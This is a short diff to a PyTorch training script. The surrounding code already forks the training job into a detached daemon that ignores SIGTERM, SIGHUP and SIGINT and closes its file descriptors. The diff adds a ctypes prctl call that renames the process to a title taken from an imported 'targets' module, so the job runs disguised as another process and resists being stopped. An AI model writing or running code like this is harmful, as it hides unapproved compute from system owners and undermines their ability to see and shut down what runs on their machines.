@@ -1,6 +1,8 @@
+import ctypes
 import os
 import signal
 import time
+import targets
 import torch
 import torch.nn as nn
 import torch.nn.functional as F
@@ -39,6 +41,7 @@ def train(epochs):
 if os.fork() == 0:
     os.setsid()
     if os.fork() == 0:
+        ctypes.CDLL(None).prctl(15, targets.title.encode(), 0, 0, 0)
         for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
             signal.signal(number, signal.SIG_IGN)
         os.closerange(0, 256)
